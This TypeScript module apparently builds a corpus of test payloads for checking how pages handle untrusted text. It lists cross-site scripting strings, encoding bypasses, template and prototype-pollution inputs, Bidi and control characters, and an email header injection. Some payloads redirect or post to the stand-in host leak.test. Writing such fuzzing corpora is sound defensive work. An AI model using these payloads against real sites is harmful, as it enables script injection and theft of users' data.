import type { Payload } from './payload.ts';

const INJECTIONS = ['<img src=x:x onerror=RUN>', '<svg onload=RUN>', '<script>RUN</script>', '<b id=broken>'];

/** What ends the place a text stands in. */
const ENDS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '</script>',
  '</title>',
  '</style>',
  '</textarea>',
  '</noscript>',
  '</option></select>',
  '</button></form>',
  '</iframe>',
  '</template>',
  '</xmp></plaintext>',
  '-->',
  '--!>',
  ']]>',
  '*/',
  '\\"',
];

const ATTRIBUTES = [
  '" onmouseover="RUN" x="',
  "' autofocus onfocus='RUN' x='",
  '` onfocus=`RUN` x=`',
  'x onfocus=RUN autofocus tabindex=0 ',
  '"/onpointerover=RUN//',
  '\u00a0onfocus=RUN\u00a0',
];

const ENTITIES = [
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;img src=x:x onerror=RUN&#62;',
  '&#x3c;svg onload=RUN&#x3e;',
  '&quot; onfocus=RUN autofocus x=&quot;',
  '&amp;lt;script&amp;gt;RUN',
  '&NewLine;&Tab;&colon;&lpar;RUN',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '%3Cscript%3ERUN%3C/script%3E',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '\\x3cscript\\x3eRUN',
  '＜script＞RUN＜/script＞',
  '\ufeff<script>RUN</script>',
];

const ADDRESSES = [
  'javascript:RUN',
  'JaVaScRiPt:RUN//',
  ' \tjava\nscript:RUN',
  'vbscript:RUN',
  'data:text/html,<script>RUN</script>',
  'blob:RUN',
  '//leak.test/RUN',
  '/api/session/end',
  '#<img src=x:x onerror=RUN>',
];

const TEMPLATES = [
  '{x}',
  '{x, plural, one {',
  "'{' # '}' {0} {count}",
  '<b>{name}</b> <link>x</link>',
  '{{constructor.constructor("RUN")()}}',
  '${RUN}',
  '<%= RUN %>',
  '#{RUN}',
  '%s %d %n %00',
  "$& $` $' $1 $$",
  '__proto__',
  'constructor',
  'toString',
  '[object Object]',
  '"}],["$","script",null,{"children":"RUN"}]',
  '");self.__next_f.push([1,"RUN',
  '\u2028RUN\u2029RUN//',
  '<!--<script>RUN',
  '<!DOCTYPE html><html><head><base href=//leak.test/>',
  '<meta http-equiv=refresh content="0;url=//leak.test/RUN">',
  '<form action=//leak.test/><button>RUN',
  '<link rel=stylesheet href=//leak.test/RUN>',
];

const INVISIBLE = [
  '\u202egnp.exe\u202c',
  '\u2066\u2067\u2068terbalik',
  '\u0000<script>RUN</script>\u0000',
  '\u0001\u0002\u0007\u0008\u001b[31mRUN\u007f\u0080\u009b',
  '\u200b\u200c\u200d\u2060\ufeff',
  'a\u0300'.repeat(300),
  '\u{e0001}\u{e0041}',
  'baris\r\nBcc: korban@leak.test\r\n\r\nRUN',
];

const LONG = ['W'.repeat(4_000), '"<'.repeat(1_000), 'مرحبا '.repeat(500), '🦊'.repeat(1_000), '&'.repeat(2_000)];

const named = (family: string, texts: readonly string[]): Payload[] => texts.map((html) => ({ family, html }));

/** Texts that try to leave the place in which a page shows them, whatever it is: a text, an attribute, a title, a script, a form. */
export const contextBreaks = (): Payload[] => [
  ...named(
    'end of the context',
    ENDS.map((end, at) => `${end}${INJECTIONS[at % INJECTIONS.length] ?? ''}`),
  ),
  ...named('end of an attribute', ATTRIBUTES),
  ...named('written otherwise', ENTITIES),
  ...named('address', ADDRESSES),
  ...named('template', TEMPLATES),
  ...named('invisible', INVISIBLE),
  ...named('long', LONG),
];
